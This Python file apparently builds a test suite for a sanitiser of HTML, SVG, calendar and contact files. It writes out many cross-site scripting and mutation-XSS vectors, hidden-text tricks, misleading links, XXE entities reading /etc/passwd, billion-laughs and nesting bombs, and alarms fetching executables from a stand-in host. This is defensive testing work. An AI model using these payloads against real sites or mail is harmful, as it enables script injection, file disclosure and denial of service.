"""HTML, SVG, calendars and cards that run, fetch, hide, lie or swell."""
import base64

from case import add, MAILS, ANY, CLEAN, DISARMED, OUTPUT, PAYLOAD, REFUSED

P = PAYLOAD
JS = "javascript:alert('%s')" % P
GIF = base64.b64encode(bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")).decode()
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" %s>%s</svg>'


def html(name, attacks, body, must=(P,), expect=(DISARMED,), wrap=True):
    text = "<!DOCTYPE html><html><body><p>本文</p>%s<p>終わり</p></body></html>" % body if wrap else body
    add("html-%s.html" % name, "html", attacks, text.encode() if isinstance(text, str) else text, must, expect)


def html_scripts():
    rows = {
        "script": "<script>alert('%s')</script>", "script-upper": "<SCRIPT>alert('%s')</SCRIPT>",
        "script-slash": "<script/x>alert('%s')</script >", "script-open": "<script>alert('%s')",
        "script-src": "<script src=https://evil.example/%s.js></script>",
        "script-in-comment": "<!--><script>alert('%s')</script>-->", "script-bang": "<!-- --!><script>alert('%s')</script>",
        "script-in-title": "</title><title><script>alert('%s')</script></title>",
        "script-in-noscript": "<noscript><p title=\"</noscript><script>alert('%s')</script>\">",
        "script-in-template": "<template><script>alert('%s')</script></template>",
        "script-in-svg": "<svg><script>alert('%s')</script></svg>", "script-in-svg-cdata": "<svg><script><![CDATA[alert('%s')]]></script></svg>",
        "script-in-math": "<math><mtext><script>alert('%s')</script></mtext></math>",
        "mutation-style": "<svg></p><style><a id=\"</style><img src=1 onerror=alert('%s')>\">",
        "mutation-noscript": "<noscript><style></noscript><img src=x onerror=alert('%s')></style>",
        "mutation-math": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('%s')&gt;\">",
        "handler": "<p onclick=alert('%s')>x</p>", "handler-slash": "<img/src=x/onerror=alert('%s')>",
        "handler-quote": "<img src=\"x\"onerror=\"alert('%s')\">", "handler-newline": "<img src=x\nonerror\n=\nalert('%s')>",
        "handler-body": "<body onload=alert('%s')>", "handler-details": "<details open ontoggle=alert('%s')>x</details>",
        "handler-marquee": "<marquee onstart=alert('%s')>x</marquee>",
        "link-script": "<a href=\"javascript:alert('%s')\">x</a>", "link-mixed": "<a href=\" JaVaScRiPt:alert('%s')\">x</a>",
        "link-tab": "<a href=\"java&Tab;script:alert('%s')\">x</a>", "link-entity": "<a href=\"&#106;avascript&colon;alert('%s')\">x</a>",
        "link-newline": "<a href=\"java\nscript:alert('%s')\">x</a>", "link-control": "<a href=\"&#1;javascript:alert('%s')\">x</a>",
        "link-vbscript": "<a href=\"vbscript:MsgBox('%s')\">x</a>", "link-data": "<a href=\"data:text/html,<script>%s</script>\">x</a>",
        "link-file": "<a href=\"file://evil.example/%s\">x</a>", "link-msdt": "<a href=\"ms-msdt:/id %s\">x</a>",
        "link-search-ms": "<a href=\"search-ms:query=%s\">x</a>",
        "area": "<map><area href=\"javascript:alert('%s')\"></map>",
        "style-expression": "<p style=\"width:expression(alert('%s'))\">x</p>", "style-binding": "<p style=\"-moz-binding:url(%s)\">x</p>",
        "style-import": "<style>@import 'https://evil.example/%s';</style>", "style-background": "<p style=\"background:url(//evil.example/%s)\">x</p>",
        "link-stylesheet": "<link rel=stylesheet href=//evil.example/%s>", "link-import": "<link rel=import href=//evil.example/%s>",
        "meta-refresh": "<meta http-equiv=refresh content='0;url=javascript:alert(\"%s\")'>",
        "meta-refresh-late": "<p><meta http-equiv=Refresh content='0; https://evil.example/%s'>", "base": "<base href='https://evil.example/%s/'>",
        "iframe": "<iframe src=\"https://evil.example/%s\"></iframe>", "iframe-srcdoc": "<iframe srcdoc=\"<script>alert('%s')</script>\"></iframe>",
        "frameset": "<frameset><frame src=\"javascript:alert('%s')\"></frameset>",
        "object": "<object data=\"https://evil.example/%s.swf\"></object>", "embed": "<embed src=\"data:text/html,%s\">",
        "applet": "<applet code=%s.class></applet>", "form": "<form action=https://evil.example/%s><input type=hidden value=x></form>",
        "formaction": "<button formaction=\"javascript:alert('%s')\">x</button>", "input-image": "<input type=image src=//evil.example/%s>",
        "password": "<form><input type=password value=%s></form>", "image-remote": "<img src=https://evil.example/%s.gif>",
        "image-srcset": "<img srcset='//evil.example/%s 2x'>", "video": "<video src=//evil.example/%s poster=//evil.example/x></video>",
        "audio": "<audio><source src=//evil.example/%s></audio>", "background": "<table background=//evil.example/%s><tr><td>x</table>",
        "image-data-html": "<img src=\"data:text/html;base64,PHNjcmlwdD4=%s\">", "xml-island": "<xml id=x><a>%s</a></xml>",
        "conditional": "<!--[if IE]><script>alert('%s')</script><![endif]-->", "comment": "<!-- %s -->",
        "processing": "<?php echo '%s' ?>", "cdata": "<![CDATA[%s]]>",
    }
    for name, body in rows.items():
        # A title is text, whatever stands in it.
        html(name, "active: " + name, body % P, () if name == "script-in-title" else (P,))


def html_hides():
    rows = {
        "display": "<div style='display:none'>%s</div>", "display-escaped": "<div style='d\\69splay:n\\6fne'>%s</div>",
        "display-comment": "<div style='display:/**/none'>%s</div>", "visibility": "<div style='visibility:hidden'>%s</div>",
        "font-size": "<span style='font-size:0px'>%s</span>", "opacity": "<span style='opacity:0'>%s</span>",
        "white": "<font color=#ffffff>%s</font>", "same-colour": "<p style='color:#222;background-color:#222222'>%s</p>",
        "hidden": "<p hidden>%s</p>", "off-page": "<p style='position:absolute;left:-9999px'>%s</p>",
        "clipped": "<div style='overflow:hidden;max-height:0'>%s</div>", "mso-hide": "<span style='mso-hide:all'>%s</span>",
        "transparent": "<span style='color:transparent'>%s</span>", "alt": "<img hidden alt='%s' src=cid:x>",
    }
    for name, body in rows.items():
        html("hidden-" + name, "text that does not show: " + name, body % P)
    html("bidi", "an override by reference", "<p>ab&#x202e;cd&#8238;</p>", ["\u202e".encode()])
    html("bdo", "text turned round", "<bdo dir=rtl>x</bdo>", ())
    for key, address in MAILS.items():
        html("link-" + key, "a link made to be mistaken: " + key, "<a href=\"%s\">x</a>" % address.replace("&", "&amp;"))
    html("lying-link", "a link that shows another host", "<a href=https://evil.example/>https://www.city.example.jp/</a>", ())
    html("user-in-link", "a host behind an @", "<a href=https://www.city.example.jp@evil.example/>x</a>", ())
    html("utf7", "UTF-7 by meta", "<meta charset=utf-7>+ADw-script+AD4-", ["<script"], OUTPUT)
    html("utf16", "script in UTF-16", ("\ufeff<html><p>a<script>%s</script></html>" % P).encode("utf-16-le"), wrap=False)
    html("iso2022jp", "an escape inside a tag", b"<!DOCTYPE html><p>a<a title=\"\x1b$B\x1b(B\" onclick=\"" + P.encode() + b"\">x</a>", wrap=False)
    html("deep", "100,000 elements in each other", "<div>" * 100000 + "x", (), ANY)
    html("deep-tables", "20,000 tables in each other", "<table><tr><td>" * 20000 + "x", (), ANY)
    html("many-attributes", "100,000 attributes", "<p %s>x" % " ".join("a%d=1" % i for i in range(100000)), (), ANY)
    html("open-comments", "a million openings", "<!-" * 1000000, (), ANY)
    html("formatting", "formatting that never closes", "<b><i><u><s>" * 50000 + "x", (), ANY)


def svg(name, attacks, body, must=(P,), expect=(DISARMED,), attributes="", head=""):
    add("svg-%s.svg" % name, "svg", attacks, (head + SVG % (attributes, body)).encode(), must, expect)


def svg_active():
    rows = {
        "script": "<script>alert('%s')</script>", "script-href": "<script href='https://evil.example/%s.js'/>",
        "script-cdata": "<script><![CDATA[alert('%s')]]></script>", "handler": "<rect onclick=\"alert('%s')\"/>",
        "handler-begin": "<rect><set onbegin=\"alert('%s')\"/></rect>", "script-prefixed": "<s:script xmlns:s='http://www.w3.org/2000/svg'>%s</s:script>",
        "script-xhtml": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>%s</x:script>",
        "iframe-xhtml": "<x:iframe xmlns:x='http://www.w3.org/1999/xhtml' src='https://evil.example/%s'/>",
        "foreign": "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload=\"%s\"/></foreignObject>",
        "link": "<a xlink:href=\"javascript:alert('%s')\"><rect/></a>", "link-plain": "<a href=\"javascript:alert('%s')\"><rect/></a>",
        "link-both": "<a href=\"javascript:alert('%s')\" xlink:href='https://x.example/'><rect/></a>",
        "link-tab": "<a href=\"java&#9;script:%s\"><rect/></a>", "link-data": "<a href=\"data:text/html,%s\"><rect/></a>",
        "link-prefixed": "<a y:href=\"javascript:%s\" xmlns:y='http://www.w3.org/1999/xlink'><rect/></a>",
        "animate-href": "<a><animate attributeName='href' to=\"javascript:%s\"/><rect/></a>",
        "set-handler": "<rect><set attributeName='onclick' to=\"%s\"/></rect>",
        "animate-values": "<a id='x'><animate href='#x' attributeName='xlink:href' values=\"javascript:%s\"/></a>",
        "use-external": "<use href='https://evil.example/%s.svg#x'/>", "use-data": "<use href=\"data:image/svg+xml,%s#x\"/>",
        "image-external": "<image href='https://evil.example/%s.png'/>", "image-file": "<image xlink:href='file:///%s'/>",
        "image-html": "<image href=\"data:text/html,%s\"/>", "image-svg": "<image href=\"data:image/svg+xml,%%3Csvg onload='%s'/%%3E\"/>",
        "image-script": "<image href=\"data:image/png,%s\"/>", "feimage": "<filter><feImage href='https://evil.example/%s'/></filter>",
        "style-import": "<style>@import url(https://evil.example/%s);</style>", "style-font": "<style>@font-face{src:url(//evil.example/%s)}</style>",
        "style-url": "<style>rect{fill:url(https://evil.example/%s)}</style>", "style-binding": "<style>rect{-moz-binding:url(%s)}</style>",
        "style-behavior": "<rect style='behavior:url(%s)'/>", "style-expression": "<rect style='width:expression(%s)'/>",
        "style-escape": "<rect style='fill:u\\72l(https://evil.example/%s)'/>", "style-break": "<style>a{fill:red}&lt;/style>&lt;script>%s</style>",
        "style-comment": "<style>/*</style><script>%s</script><style>*/</style>", "style-attribute": "<rect fill='url(https://evil.example/%s)'/>",
        "cursor": "<rect style='cursor:url(https://evil.example/%s)'/>", "filter-url": "<rect filter='url(https://evil.example/%s#f)'/>",
        "textpath": "<text><textPath href='https://evil.example/%s#x'>a</textPath></text>", "tref": "<text><tref href='file:///%s'/></text>",
        "metadata": "<metadata>%s</metadata>", "comment": "<!-- %s -->", "instruction": "<?xml-stylesheet href='%s'?>",
        "editor": "<x:thing xmlns:x='urn:editor'>%s</x:thing>", "handler-element": "<handler type='x'>%s</handler>",
        "font": "<font><font-face><font-face-src><font-face-uri href='https://evil.example/%s'/></font-face-src></font-face></font>",
        "hkern": "<font><glyph unicode='%s'/></font>", "title-markup": "<title><script>%s</script></title>", "discard": "<discard href='#%s'/>",
        "pattern-external": "<pattern href='https://evil.example/%s#p'/>", "base": "<g xml:base='https://evil.example/%s'/>",
    }
    for name, body in rows.items():
        svg(name, "active: " + name, body % P, expect=OUTPUT if name in ("metadata", "comment", "base", "style-behavior", "style-comment",
            "style-expression", "cursor", "style-binding", "style-break", "style-escape", "instruction") else (DISARMED,))
    svg("stylesheet", "a sheet by instruction", "<rect/>", head="<?xml-stylesheet href='https://evil.example/%s'?>" % P)
    for key, address in MAILS.items():
        svg("link-" + key, "a link made to be mistaken: " + key, "<a xlink:href=\"%s\"><rect/></a>" % address.replace("&", "&amp;"))
    svg("onload", "a handler at the root", "", attributes="onload=\"alert('%s')\"")
    for name, c in {"id": "id", "class": "class", "d": "d", "points": "points", "transform": "transform", "fill": "fill",
                    "result": "result", "font-family": "font-family", "href": "href"}.items():
        svg("value-" + name, "markup inside " + name, "<path %s='&quot;&gt;&lt;script&gt;%s'/>" % (c, P), expect=OUTPUT)


def svg_swells():
    entity = "<!DOCTYPE svg [%s]>"
    laughs = "<!ENTITY a0 'ha'>" + "".join("<!ENTITY a%d '%s'>" % (i, "&a%d;" % (i - 1) * 10) for i in range(1, 9))
    svg("entity-laughs", "a billion laughs", "<text>&a8;</text>", (), (REFUSED,), head=entity % laughs)
    svg("entity-blow-up", "one long entity many times", "<text>%s</text>" % ("&a;" * 10000), (), (REFUSED,),
        head=entity % ("<!ENTITY a '%s'>" % ("x" * 10000)))
    svg("entity-file", "a local file by entity", "<text>&a;</text>", (), (REFUSED,), head=entity % "<!ENTITY a SYSTEM 'file:///etc/passwd'>")
    svg("entity-parameter", "a parameter entity", "", (), (REFUSED,), head=entity % "<!ENTITY % a SYSTEM 'http://evil.example/'>%a;")
    svg("entity-cycle", "an entity in itself", "<text>&a;</text>", (), (REFUSED,), head=entity % "<!ENTITY a '&b;'><!ENTITY b '&a;'>")
    svg("entity-script", "a script by entity", "&a;", head=entity % ("<!ENTITY a \"<script>%s</script>\">" % P))
    svg("entity-handler", "a handler by entity in a value", "<a href='&a;'><rect/></a>", head=entity % ("<!ENTITY a 'javascript:%s'>" % P))
    svg("doctype-external", "an external subset", "<rect/>", (), OUTPUT, head='<!DOCTYPE svg SYSTEM "http://evil.example/%s">' % P)
    uses = "<rect id='a0'/>" + "".join("<g id='a%d'>%s</g>" % (i, "<use href='#a%d'/>" % (i - 1) * 10) for i in range(1, 12))
    svg("use-bomb", "uses of uses", uses, (), (REFUSED,))
    patterns = "".join("<pattern id='p%d'>%s</pattern>" % (i, "<rect fill='url(#p%d)'/>" % (i - 1) * 10) for i in range(1, 12))
    svg("pattern-bomb", "patterns of patterns", patterns + "<rect fill='url(#p11)'/>", (), (REFUSED,))
    svg("class-bomb", "patterns of patterns by a sheet", "<style>%s</style>" % "".join(".c%d{fill:url(#p%d)}" % (i, i) for i in range(12)) +
        "".join("<pattern id='p%d'>%s</pattern>" % (i, "<rect class='c%d'/>" % (i - 1) * 10) for i in range(1, 12)) + "<rect class='c11'/>",
        (), (REFUSED,))
    svg("use-cycle", "a use of itself", "<g id='a'><use href='#a'/></g>", (), (CLEAN,))
    svg("deep", "10,000 groups in each other", "<g>" * 10000 + "</g>" * 10000, (), (REFUSED,))
    svg("long-path", "a path of 8 MiB", "<path d='M0 0%s'/>" % ("L1 1" * (1 << 21)), (), ANY)
    svg("many", "half a million elements", "<g/>" * 500000, (), ANY)
    svg("rules", "50,000 rules", "<style>%s</style>" % ".a{fill:url(#b)}" * 50000, (), ANY)


def cards():
    def ics(name, attacks, body, must=(P,), expect=(DISARMED,), top=""):
        text = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:x\r\n%sBEGIN:VEVENT\r\nUID:1\r\n%sEND:VEVENT\r\nEND:VCALENDAR\r\n" % (top, body)
        add("ics-%s.ics" % name, "calendar", attacks, text.encode(), must, expect)

    def vcf(name, attacks, body, must=(P,), expect=(DISARMED,), version="3.0"):
        text = "BEGIN:VCARD\r\nVERSION:%s\r\nFN:山田\r\n%sEND:VCARD\r\n" % (version, body)
        add("vcf-%s.vcf" % name, "card", attacks, text.encode("utf-8"), must, expect)

    alarm = "BEGIN:VALARM\r\nTRIGGER:-PT5M\r\n%sEND:VALARM\r\n"
    ics("attach", "an attachment by address", "ATTACH:https://evil.example/%s.exe\r\n" % P)
    ics("attach-inline", "an attachment inside", "ATTACH;ENCODING=BASE64;VALUE=BINARY;X-NAME=%s:TVqQAAMAAAA=\r\n" % P)
    ics("attach-folded", "a property folded in its name", "ATT\r\n ACH:https://evil.example/%s\r\n" % P)
    ics("alarm-procedure", "an alarm that runs", alarm % ("ACTION:PROCEDURE\r\nATTACH:file:///c:/%s.exe\r\n" % P))
    ics("alarm-audio", "an alarm that fetches", alarm % ("ACTION:AUDIO\r\nATTACH:\\\\evil.example\\%s.wav\r\n" % P))
    ics("alarm-email", "an alarm that sends", alarm % ("ACTION:EMAIL\r\nATTENDEE:mailto:%s@evil.example\r\nSUMMARY:x\r\n" % P))
    ics("alarm-case", "an alarm in small letters", "begin:valarm\r\ntrigger:-PT5M\r\naction:procedure\r\nattach:%s\r\nend:valarm\r\n" % P)
    ics("alt-desc", "HTML in a private field", "X-ALT-DESC;FMTTYPE=text/html:<script>%s</script>\r\n" % P)
    ics("altrep", "another text by address", "DESCRIPTION;ALTREP=\"https://evil.example/%s\":x\r\n" % P)
    ics("url-script", "a link that runs", "URL:javascript:%s\r\n" % P)
    ics("url-file", "a link to a share", "URL:file://evil.example/%s\r\n" % P)
    for key, address in MAILS.items():
        ics("url-" + key, "a link made to be mistaken: " + key, "URL:%s\r\n" % address)
        ics("attendee-" + key, "an attendee made to be mistaken: " + key, "ATTENDEE;CN=x:%s\r\n" % address)
        vcf("url-" + key, "a link made to be mistaken: " + key, "URL:%s\r\n" % address)
    ics("location-altrep", "a link in a parameter", "LOCATION;ALTREP=\"cid:%s\":x\r\n" % P)
    ics("attendee-ldap", "an attendee that is looked up", "ATTENDEE;DIR=\"ldap://evil.example/%s\":mailto:a@b.jp\r\n" % P)
    ics("organizer-script", "an organiser that runs", "ORGANIZER:javascript:%s\r\n" % P)
    ics("conference", "a conference address", "CONFERENCE;VALUE=URI:https://evil.example/%s\r\n" % P)
    ics("image", "a picture by address", "IMAGE;VALUE=URI:https://evil.example/%s\r\n" % P)
    ics("component", "an unknown component", "BEGIN:X-RUN\r\nSUMMARY:%s\r\nEND:X-RUN\r\n" % P)
    ics("inject", "a line end inside a value", "SUMMARY:a\\nATTACH:x\r\nDTSTART:2026\r\n", ["\r\nATTACH"])
    ics("date", "a date that is none", "DTSTART:%s\r\n" % P)
    ics("rule", "a rule with more in it", "RRULE:FREQ=DAILY;X-RUN=%s\r\n" % P)
    ics("refresh", "a feed that is fetched again", "", top="SOURCE;VALUE=URI:https://evil.example/%s\r\nREFRESH-INTERVAL;VALUE=DURATION:PT1M\r\n" % P)
    ics("deep", "50,000 components in each other", "BEGIN:X\r\n" * 50000, (), ANY)
    ics("long-line", "a folded line of 4 MiB", "SUMMARY:" + "x\r\n " * (1 << 20) + "\r\n", (), ANY)
    vcf("photo-url", "a photo by address", "PHOTO;VALUE=URI:https://evil.example/%s.jpg\r\n" % P)
    vcf("photo-html", "a photo that is HTML", "PHOTO;ENCODING=b;TYPE=JPEG:%s\r\n" % base64.b64encode(b"<script>" + P.encode()).decode())
    vcf("photo-data", "a photo that is SVG", "PHOTO:data:image/svg+xml,<svg onload='%s'/>\r\n" % P, version="4.0")
    vcf("photo-trailing", "a photo with more behind it", "PHOTO;ENCODING=b;TYPE=GIF:%s\r\n" %
        base64.b64encode(base64.b64decode(GIF) + P.encode()).decode())
    vcf("sound", "a sound", "SOUND;VALUE=URI:https://evil.example/%s.wav\r\n" % P)
    vcf("key", "a key", "KEY:https://evil.example/%s\r\n" % P)
    vcf("agent", "a card in a card", "AGENT:\r\nBEGIN:VCARD\r\nFN:%s\r\nEND:VCARD\r\n" % P, version="2.1")
    vcf("url-script", "a link that runs", "URL:javascript:%s\r\n" % P)
    vcf("url-quoted", "a link that runs, coded", "URL;QUOTED-PRINTABLE:=6A=61=76ascript:%s\r\n" % P, version="2.1")
    vcf("source", "a card that is fetched again", "SOURCE:https://evil.example/%s\r\n" % P, version="4.0")
    vcf("private", "private fields", "X-RUN:%s\r\n" % P)
    vcf("xml", "XML in a field", "XML:<x onload='%s'/>\r\n" % P, version="4.0")
    vcf("inject", "a line end by quoted-printable", "NOTE;ENCODING=QUOTED-PRINTABLE:a=0D=0AKEY:%s\r\n" % P, ["\r\nKEY"], version="2.1")
    vcf("bidi", "an override, coded", "NOTE;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:a=E2=80=AEb\r\n", ["\u202e".encode()], version="2.1")
    vcf("impp", "a call by address", "IMPP:callto:%s\r\n" % P, version="4.0")
    vcf("tel", "a call that is no number", "TEL;VALUE=uri:tel:%%3Cscript%%3E%s%%\r\n" % P, version="4.0")


def make():
    html_scripts()
    html_hides()
    svg_active()
    svg_swells()
    cards()
